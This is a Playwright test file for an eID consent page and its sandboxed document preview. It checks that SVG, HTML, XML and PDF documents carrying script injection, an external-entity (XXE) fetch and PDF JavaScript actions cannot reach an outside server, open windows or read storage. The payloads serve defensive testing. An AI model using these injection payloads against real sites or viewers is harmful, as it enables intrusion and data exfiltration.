// The consent page and its preview in Chromium: what a hostile document tries must
// fail, and what a harmless one shows must be seen. The pages are those of package
// pages at EIDKIT_PAGES; the agent behind their WebSocket is stub.mjs.
//
// Run by TestSoakPreviewInChromium.

import assert from 'node:assert/strict';
import {createRequire} from 'node:module';
import {after, before, test} from 'node:test';
import {paper, pdf, question, stub, words} from './stub.mjs';

const {chromium} = createRequire(new URL('../../client/package.json', import.meta.url))('playwright-core');
const base = process.env.EIDKIT_PAGES;
const outside = process.env.EIDKIT_OUTSIDE; // a server that must never be asked anything
let browser;

before(async () => {
  browser = await chromium.launch({executablePath: process.env.EIDKIT_CHROMIUM || '/usr/bin/chromium', args: ['--no-sandbox']});
});
after(() => browser.close());

// open shows the consent page with items.
async function open(t, items, {language = 'en', script} = {}) {
  const context = await browser.newContext({locale: 'en', viewport: {width: 1100, height: 900}});
  t.after(() => context.close());
  const page = await context.newPage();
  const seen = {requests: [], faults: [], popups: 0, dialogs: 0, violations: []};
  context.on('request', (r) => seen.requests.push(r.url()));
  context.on('page', () => seen.popups++);
  page.on('dialog', (d) => { seen.dialogs++; d.dismiss(); });
  page.on('pageerror', (e) => seen.faults.push(e.message));
  page.on('console', (m) => {
    if (m.type() === 'error' || m.type() === 'warning') seen.violations.push(m.text());
  });
  if (script) await page.addInitScript(script);
  const agent = await stub(page, {language, items});
  await page.goto(base + '/consent.html#code=once');
  await page.waitForSelector(items.length ? '#deny' : '#nothing:not([hidden])');
  return {page, agent, seen};
}

// look opens the first document and waits until its frame has said how it went.
async function look({page}) {
  await page.locator('.document button').first().click();
  await page.waitForSelector('#looking-state .mark.ok, #looking-state .mark.warn, #looking-state .mark.bad');
  return page.frames().find((f) => f.url().endsWith('/preview.html'));
}

// nothingGotOut checks that a document reached nothing.
function nothingGotOut({page, seen}) {
  assert.deepEqual(seen.requests.filter((u) => !u.startsWith(base + '/') && !u.startsWith('blob:') && !u.startsWith('data:')), []);
  assert.equal(seen.popups, 0, 'a window was opened');
  assert.equal(seen.dialogs, 0, 'a dialog was opened');
  assert.ok(page.url().startsWith(base + '/consent.html'), 'the page was taken elsewhere: ' + page.url());
  assert.deepEqual(seen.faults, []);
}

const script = `fetch('${outside}/js'); new Image().src='${outside}/img'; top.location='${outside}/top'; open('${outside}/popup'); alert(1); ` +
  `try { parent.document.body.dataset.hit = 'yes' } catch {}; try { localStorage.hit = 'yes' } catch {}; document.title = 'hit'`;

const hostile = [
  ['SVG', paper('a.svg', 'image/svg+xml', `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="${script.replaceAll('"', '&quot;')}"><script>${script}</script>` +
    `<style>@import url(${outside}/css); rect { fill: url(${outside}/fill#x) }</style><image xlink:href="${outside}/pic.png" width="10" height="10"/><rect width="50" height="50" fill="red"/>` +
    `<foreignObject width="90" height="90"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${outside}/frame"></iframe></foreignObject><a xlink:href="javascript:alert(1)"><text y="90">click</text></a></svg>`), 'onload=', true],
  ['HTML', paper('a.html', 'text/html', `<html><head><meta http-equiv="refresh" content="0;url=${outside}/refresh"><base href="${outside}/"></head><body onload="${script.replaceAll('"', '&quot;')}"><script>${script}</script>` +
    `<img src="${outside}/x.png" onerror="alert(2)"><form action="${outside}/form"><input></form><iframe src="${outside}/frame"></iframe><link rel="stylesheet" href="${outside}/x.css"><h1>Contract</h1></body></html>`), '<h1>Contract</h1>'],
  ['XHTML', paper('a.xhtml', 'application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${script.replaceAll('&', '&amp;')}</script></body></html>`), '<script>'],
  ['XML', paper('a.xml', 'application/xml', `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${outside}/x.xsl"?><!DOCTYPE a [<!ENTITY e SYSTEM "${outside}/entity"><!ENTITY b "${'x'.repeat(1000)}">]><a>&e;&b;<x:script xmlns:x="http://www.w3.org/1999/xhtml">${script.replaceAll('&', '&amp;')}</x:script></a>`), '<!ENTITY e SYSTEM'],
  ['text that is markup', paper('a.txt', 'text/plain', `</pre><script>${script}</script><img src=x onerror=alert(1)>`), '</pre><script>'],
];

for (const [name, document, text, picture] of hostile) {
  test('hostile ' + name, async (t) => {
    const at = await open(t, [question('1', [document])]);
    const frame = await look(at);
    assert.ok((await frame.locator('pre').textContent()).includes(text), 'the source is not shown');
    assert.equal(await frame.locator('img').count(), picture ? 1 : 0);
    await frame.evaluate(() => new Promise((done) => setTimeout(done, 300)));
    nothingGotOut(at);
    assert.equal(await at.page.evaluate(() => document.body.dataset.hit), undefined);
    assert.equal(await frame.evaluate(() => document.title), 'eidkit');
    assert.equal(await frame.locator('script').count(), 1); // ours
  });
}

test('hostile PDF', async (t) => {
  const js = (code) => `<< /S /JavaScript /JS (${code}) >>`;
  const file = pdf([['I promise.'], ['Page two']], {
    catalog: `/OpenAction ${js(`app.launchURL('${outside}/open'); app.alert(1)`)} /AA << /WC ${js('app.alert(2)')} >> /Names << /JavaScript << /Names [(a) ${js('this.submitForm(1)')}] >> >> /AcroForm << /Fields [101 0 R] /XFA 102 0 R >>`,
    pageMore: `/Annots [100 0 R 101 0 R] /AA << /O << /S /URI /URI (${outside}/page) >> >>`,
    objects: [
      `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${outside}/link) >> >>`,
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (typed) /Rect [50 50 200 80] /AA << /F ${js('app.alert(3)')} >> >>`,
      '<< /Length 70 >>\nstream\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>1</script></xdp:xdp>\nendstream',
    ],
  });
  const at = await open(t, [question('1', [paper('a.pdf', 'application/pdf', file, {active: [{code: 'script', says: words('contains program code (script)')}]})])]);
  assert.ok((await at.page.locator('#question').innerText()).includes('The document contains program code (script).'), 'active content is not named');
  const frame = await look(at);
  await frame.waitForSelector('canvas');
  const dark = await frame.evaluate(() => {
    const c = document.querySelector('canvas');
    const {data} = c.getContext('2d').getImageData(0, 0, c.width, c.height);
    let n = 0;
    for (let i = 0; i < data.length; i += 4) if (data[i] < 128) n++;
    return n;
  });
  assert.ok(dark > 100, 'the text was not drawn');
  assert.equal(await frame.locator('a, input, textarea, form, iframe, object, embed').count(), 0, 'something can be clicked or typed in');
  await frame.locator('canvas').first().click({position: {x: 100, y: 100}});
  await frame.locator('button').last().click(); // larger
  await frame.evaluate(() => new Promise((done) => setTimeout(done, 300)));
  nothingGotOut(at);
  assert.equal(await frame.locator('.page').count(), 2);
});

// Whatever code might come to run in the frame after all has nowhere to go.
test('code in the frame gets nowhere', async (t) => {
  const context = await browser.newContext(); // without the stub, whose WebSocket would be in the frame too
  t.after(() => context.close());
  const page = await context.newPage();
  let popups = 0;
  context.on('page', () => popups++);
  await page.goto(base + '/index.html');
  await page.evaluate(() => {
    const f = document.createElement('iframe');
    f.sandbox = 'allow-scripts';
    f.src = '/preview.html';
    document.body.append(f);
  });
  await page.frameLocator('iframe').locator('#view').waitFor({state: 'attached'});
  const frame = page.frames().find((f) => f.url().endsWith('/preview.html'));
  const got = await frame.evaluate(async ([outside, base]) => {
    await new Promise((done) => setTimeout(done)); // what the debugger runs itself may use eval
    const tried = {};
    const attempt = async (name, f) => {
      try {
        tried[name] = String(await f());
      } catch (e) {
        tried[name] = 'refused';
      }
    };
    await attempt('origin', () => self.origin);
    await attempt('fetch outside', () => fetch(outside + '/fetch').then(() => 'got'));
    await attempt('fetch inside', () => fetch(base + '/consent.html').then(() => 'got'));
    await attempt('beacon', () => navigator.sendBeacon(outside + '/beacon', 'x') && 'refused'); // queued, then blocked: the request list shows it
    await attempt('socket', () => new Promise((done, failed) => {
      const s = new WebSocket(base.replace('http', 'ws') + '/v1', 'eidkit.v1');
      s.onopen = () => done('open');
      s.onerror = failed;
    }));
    await attempt('storage', () => localStorage.getItem('eidkit.session'));
    await attempt('session', () => sessionStorage.getItem('eidkit.session'));
    await attempt('cookie', () => document.cookie);
    await attempt('database', () => indexedDB.open('x') && 'got');
    await attempt('parent', () => parent.document.title);
    await attempt('top', () => {
      top.location.href = outside + '/top';
      return 'refused';
    });
    await attempt('popup', () => (open(outside + '/popup') ? 'opened' : 'refused'));
    await attempt('eval', () => (0, eval)('"ran"'));
    await attempt('function', () => new Function('return "ran"')());
    await attempt('frame', () => new Promise((done) => {
      const f = document.createElement('iframe');
      f.onload = () => done('refused'); // an error page at best: the request list shows more
      f.src = outside + '/frame';
      document.body.append(f);
    }));
    await attempt('form', () => {
      const f = document.createElement('form');
      f.action = outside + '/form';
      document.body.append(f);
      f.submit();
      return 'refused';
    });
    await attempt('script', () => new Promise((done, failed) => {
      const s = document.createElement('script');
      s.onload = () => done('ran');
      s.onerror = failed;
      s.src = outside + '/script.js';
      document.body.append(s);
    }));
    return tried;
  }, [outside, base]);
  const {origin, ...rest} = got;
  assert.equal(origin, 'null');
  assert.deepEqual(Object.entries(rest).filter(([, v]) => v !== 'refused'), []);
  await page.waitForTimeout(300);
  assert.equal(popups, 0);
  assert.equal(page.url(), base + '/index.html');
});

// The frame's lies are not believed: the page answers nothing and allows nothing for it.
test('what the frame says', async (t) => {
  const at = await open(t, [question('1', [paper('a.txt', 'text/plain', 'hello')])]);
  const frame = await look(at);
  await frame.evaluate(() => {
    for (const m of [{state: 'ready'}, {allowed: true}, {method: 'desk.answer', params: {id: '1', allowed: true}}, null, 'x', {state: 'shown', notes: [{}, '<b>']}]) parent.postMessage(m, '*');
  });
  await frame.evaluate(() => parent.postMessage({state: 'failed'}, '*')); // heard after all that
  await at.page.waitForSelector('#looking-state .mark.warn');
  assert.equal(await at.page.locator('#looking-notes').innerText(), '');
  await at.page.locator('#deny').click();
  await at.agent.answered(1);
  assert.deepEqual(at.agent.answers, [{id: '1', allowed: false}]);
  nothingGotOut(at);
});

test('a document that was changed cannot be allowed', async (t) => {
  const d = paper('a.txt', 'text/plain', 'I promise nothing.');
  d.bytes = Buffer.from('I promise everything.');
  d.about.size = d.bytes.length;
  const at = await open(t, [question('1', [d])]);
  await at.page.locator('.document button').click();
  await at.page.waitForSelector('#looking-state .mark.bad');
  assert.equal(at.page.frames().length, 1, 'it is shown');
  await at.page.locator('.document button').click(); // to hide it
  assert.equal(await at.page.locator('#looking-state .mark.bad').count(), 1, 'what was found is hidden');
  await at.page.evaluate(() => new Promise((done) => setTimeout(done, 800))); // set after the one that lets buttons work, and longer
  await at.page.locator('button.allows').first().dispatchEvent('click');
  await at.page.locator('#deny').click();
  await at.agent.answered(1);
  assert.deepEqual(at.agent.answers, [{id: '1', allowed: false}]);
});

test('odd characters are seen', async (t) => {
  const at = await open(t, [question('1', [paper('a.txt', 'text/plain', '\ufeffpay 100\u202e001\u200b euro\u0007\r\n\tend')])]);
  const frame = await look(at);
  assert.deepEqual(await frame.locator('.odd').allInnerTexts(), ['U+202E', 'U+200B', 'U+0007']);
  assert.ok((await at.page.locator('#looking-notes').innerText()).includes('characters that are not seen'));
});

test('other kinds', async (t) => {
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
  const latin = Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>caf\xe9</a>', 'latin1');
  for (const [d, check] of [
    [paper('a.png', 'image/png', png), async (f) => assert.equal(await f.locator('img').evaluate((i) => i.naturalWidth), 1)],
    [paper('a.xml', 'application/xml', latin), async (f) => assert.ok((await f.locator('pre').textContent()).includes('café'))],
    [paper('long.txt', 'text/plain', 'x'.repeat(2_000_100)), async (f, p) => {
      assert.equal((await f.locator('pre').evaluate((e) => e.textContent)).length, 2_000_000);
      assert.ok((await p.locator('#looking-notes').innerText()).includes('Only the beginning'));
    }],
    [paper('broken.pdf', 'application/pdf', '%PDF-1.7 nonsense'), async (f, p) => assert.equal(await p.locator('#looking-state .mark.warn').count(), 1)],
    [paper('broken.png', 'image/png', 'nonsense'), async (f, p) => assert.equal(await p.locator('#looking-state .mark.warn').count(), 1)],
  ]) {
    const at = await open(t, [question('1', [d])]);
    await check(await look(at), at.page);
    nothingGotOut(at);
  }
  const at = await open(t, [question('1', [paper('a.zip', 'application/zip', 'PK'), paper('b.txt', 'text/plain', 'x', {preview: false}), paper('c.txt', 'text/plain', 'x', {size: 200_000_000})])]);
  assert.equal(await at.page.locator('.document button').count(), 0);
});

test('Enter denies, and nothing is allowed by a key that was meant for something else', async (t) => {
  const hasty = () => new MutationObserver((changes, o) => {
    const b = document.querySelector('button.allows');
    if (!b) return;
    b.click(); // at once, as a click on its way is
    document.documentElement.dataset.clicked = 'yes';
    o.disconnect();
  }).observe(document, {childList: true, subtree: true});
  const at = await open(t, [question('1', []), question('2', [], {purpose: 'the second'})], {script: hasty});
  assert.equal(await at.page.evaluate(() => document.activeElement.id), 'deny');
  assert.equal(await at.page.evaluate(() => document.documentElement.dataset.clicked), 'yes');
  assert.deepEqual(at.agent.answers, []);
  await at.page.locator('#deny').focus();
  await at.page.keyboard.press('Enter');
  await at.agent.answered(1);
  assert.deepEqual(at.agent.answers, [{id: '1', allowed: false}]);
  await at.page.locator('blockquote', {hasText: 'the second'}).waitFor();
  await at.page.waitForFunction(() => document.activeElement?.id === 'deny');
  await at.page.waitForSelector('button.allows[aria-disabled="false"]');
  await at.page.locator('button.allows').first().click();
  await at.agent.answered(2);
  assert.deepEqual(at.agent.answers[1], {id: '2', allowed: true});
});

test('always, choice, and a question that ends elsewhere', async (t) => {
  const read = question('1', undefined, {operation: 'identity', says: words('wants to read.'), mayRemember: true, fields: [{name: 'surname', says: words('surname')}]});
  let at = await open(t, [read]);
  await at.page.waitForSelector('button.allows[aria-disabled="false"]');
  await at.page.getByRole('button', {name: 'Always allow'}).click();
  await at.agent.answered(1);
  assert.deepEqual(at.agent.answers, [{id: '1', allowed: true, always: true}]);

  const choice = {...question('3'), kind: 'choice', options: [{reader: 'Reader 0', card: 'eID'}, {reader: 'Reader 1', role: 'patient', card: 'eID'}]};
  at = await open(t, [choice]);
  await at.page.waitForSelector('button.allows[aria-disabled="false"]');
  await at.page.getByRole('radio').nth(1).check();
  await at.page.getByRole('button', {name: 'Use this card'}).click();
  await at.agent.answered(1);
  assert.deepEqual(at.agent.answers, [{id: '3', allowed: true, choice: 1}]);

  at = await open(t, [question('4', [])]);
  at.agent.items = [];
  at.agent.change();
  await at.page.waitForSelector('#nothing:not([hidden])');
  assert.ok((await at.page.locator('#nothing').innerText()).includes('answered elsewhere'));
  assert.deepEqual(at.agent.answers, []);
});

test('a signature that will be seen is where the document opens', async (t) => {
  const file = pdf([['One'], ['Two'], ['Three']]);
  const rect = [300, 40, 500, 100]; // near the foot of the page
  for (const page of [1, 3]) {
    const at = await open(t, [question('1', [paper('a.pdf', 'application/pdf', file, {place: {page, rect}})])]);
    const frame = await look(at);
    const seen = await frame.evaluate(([n, [, bottom, , top]]) => {
      const view = document.getElementById('view').getBoundingClientRect();
      const box = document.querySelector(`.page[data-page="${n}"]`).getBoundingClientRect();
      return {drawn: Boolean(document.querySelector(`.page[data-page="${n}"] canvas`)), above: box.top + (1 - top / 842) * box.height - view.top, below: view.bottom - box.top - (1 - bottom / 842) * box.height};
    }, [page, rect]);
    assert.ok(seen.drawn && seen.above >= 0 && seen.below >= 0, `page ${page}: ${JSON.stringify(seen)}`);
    nothingGotOut(at);
  }
});

test('a PDF without pages is not shown as an empty one', async (t) => {
  const whole = pdf([['One']]);
  for (const [name, file] of [['none', whole.replace('/Kids [5 0 R] /Count 1', '/Kids [     ] /Count 0')], ['no such object', whole.replace('/Kids [5 0 R]', '/Kids [9 0 R]')]]) {
    assert.notEqual(file, whole);
    const at = await open(t, [question('1', [paper('a.pdf', 'application/pdf', file)])]);
    await look(at);
    const said = await at.page.locator('#looking').innerText();
    assert.ok(/cannot be shown/.test(said), `${name}: ${said}`);
  }
});

test('what a certification forbids, and which reader', async (t) => {
  const statements = [{kind: 'certify', says: words('The signature certifies the document.'), text: ''}, {kind: 'reason', says: words('Reason:'), text: 'I agree'}];
  let at = await open(t, [question('1', [], {statements})]);
  assert.deepEqual(await at.page.locator('#question .notice').allInnerTexts(), ['The signature certifies the document.']);
  assert.deepEqual(await at.page.locator('#question blockquote').allInnerTexts(), ['I agree']);
  at = await open(t, [{...question('3'), kind: 'choice', options: [{reader: 'Reader 0', card: 'eID'}, {reader: 'Reader 1', role: 'patient', card: 'eID'}]}]);
  assert.deepEqual(await at.page.locator('.options strong').allInnerTexts(), ['Reader 0', 'Reader 1'], 'two cards are told apart');
});

test('of two answers about what is open the later question counts', async (t) => {
  const at = await open(t, []);
  const held = [];
  at.agent.more['desk.pending'] = () => new Promise((done) => { held.push(done); });
  at.agent.change();
  at.agent.change();
  await at.agent.until(() => held.length === 2);
  held[1]({items: [question('2', undefined, {purpose: 'the later'})]});
  await at.page.locator('blockquote', {hasText: 'the later'}).waitFor();
  held[0]({items: []}); // on its way for long
  await at.page.evaluate(() => new Promise((done) => setTimeout(done)));
  at.agent.more['desk.pending'] = undefined;
  assert.equal(await at.page.locator('#question').isVisible(), true);
});

// own opens a page of the agent with further methods.
async function own(t, name, more) {
  const context = await browser.newContext({locale: 'en', viewport: {width: 1100, height: 900}});
  t.after(() => context.close());
  const page = await context.newPage();
  const agent = await stub(page, {more});
  await page.goto(`${base}/${name}.html#code=once`);
  await page.locator('body[data-session="ready"]').waitFor();
  return {page, agent};
}

test('the log that is read again while it is read stands there once, and says who allowed what', async (t) => {
  const line = (seq, more) => ({seq, event: 'intent', time: '2026-11-22T10:00:00Z', client: 'https://portal.example', operation: 'login', by: 'consent', purpose: 'to pay', ...more});
  const lines = [line(5), {seq: 6, event: 'result', intent: 5, result: 'CANCELLED'}, line(3), {seq: 4, event: 'result', intent: 3, result: 'CONSENT_DENIED'}, line(1), {seq: 2, event: 'result', intent: 1, result: 'done'}];
  const held = [];
  const {page, agent} = await own(t, 'log', {'log.read': () => new Promise((done) => { held.push(done); }), 'grants.list': () => ({grants: []}), 'pairings.list': () => ({pairings: []})});
  await agent.until(() => held.length === 1);
  await page.locator('#trail-reload').click();
  await agent.until(() => held.length === 2);
  for (const answer of held) answer({lines});
  await page.locator('#trail tbody tr').first().waitFor();
  const cells = await page.locator('#trail tbody tr').evaluateAll((rows) => rows.map((r) => [...r.cells].map((c) => c.innerText)));
  assert.equal(cells.length, 3);
  assert.deepEqual(cells.map((c) => c[3]), ['you, this once', 'nobody', 'you, this once']);
  assert.deepEqual(cells.map((c) => c[4]), ['called off', 'refused\nYou did not allow it.', 'done']);
  assert.ok(cells.every((c) => c[2].includes('The client gives as purpose: “to pay”')), 'a client\'s words are marked as such');
});

test('another card that cannot be read takes the person before it off the page; the keyboard stays', async (t) => {
  const readers = [{name: 'Reader 0', card: {cardId: 'one', kind: 'eid'}}, {name: 'Reader 1', card: {cardId: 'two', kind: 'sis'}}];
  const {page} = await own(t, 'viewer', {
    'events.subscribe': () => ({readers}), 'certificates.read': () => ({certificates: [{name: 'signature', subject: 'CN=A (Signature),C=BE,2.5.4.42=#130f48616e6e65204d617267726965742c,2.5.4.4=#0c03c3a961'}]}), 'pin.status': () => ({triesLeft: 3}),
    'identity.read': () => ({cardId: 'one', reading: {mode: 'chip'}, identity: {surname: 'Specimen'}, verified: {}, trusted: false,
      warnings: ['the card is no longer valid', 'applet version 2.0 is newer than this program knows: read as 1.8', 'national number: check digits do not fit', 'a new oddity']}),
  });
  await page.locator('#person-name').waitFor();
  assert.deepEqual(await page.locator('.person ~ .notice li').allInnerTexts(), ['The card is no longer valid.', 'The card is newer than this program knows (applet 2.0); it was read as a 1.8.',
    'The national number cannot be right.', 'Something stands there in an unexpected form: a new oddity']);
  await page.locator('#language').selectOption('nl');
  await page.getByText('De kaart is niet meer geldig.').waitFor();
  await page.locator('#language').selectOption('en');
  await page.locator('summary', {hasText: 'Signature'}).click();
  assert.ok((await page.locator('details').first().innerText()).includes('CN=A (Signature),C=BE,GN=Hanne Margriet\\,,SN=éa'), await page.locator('details').first().innerText());
  await page.getByRole('button', {name: 'Show the tries left'}).press('Enter');
  await page.getByText('3 tries left').waitFor();
  assert.equal(await page.locator('details[open]').count(), 1, 'what was unfolded is folded up');
  assert.equal(await page.evaluate(() => document.activeElement.textContent), 'Show the tries left');
  await page.locator('input[name="reader"]').nth(0).focus();
  await page.keyboard.press('ArrowDown');
  await page.getByText('This is a SIS card').waitFor();
  assert.equal(await page.locator('#person-name').count(), 0, 'another person is shown beside this card');
  assert.match(await page.evaluate(() => document.activeElement.closest('label')?.textContent ?? ''), /Reader 1/);
});

test('four languages, and words from outside are only words', async (t) => {
  const markup = '<img src=x onerror=alert(1)>';
  const item = question('1', [paper(markup + '.txt', 'text/plain', 'x')], {purpose: markup, reader: markup, client: {kind: 'program', name: markup, executable: '/opt/' + markup, user: 'anna'}, mayRemember: true, triesLeft: 1, hashOnly: true});
  const texts = new Set();
  for (const language of ['en', 'nl', 'fr', 'de']) {
    const at = await open(t, [item], {language});
    await at.page.waitForFunction((l) => document.documentElement.lang === l, language);
    const text = await at.page.locator('#question').innerText();
    assert.ok(text.includes(markup) && !/\bask\.\w/.test(text), text);
    assert.equal(await at.page.locator('#question img').count(), 0);
    texts.add(text);
    nothingGotOut(at);
    assert.deepEqual(at.seen.violations, []);
  }
  assert.equal(texts.size, 4);
});
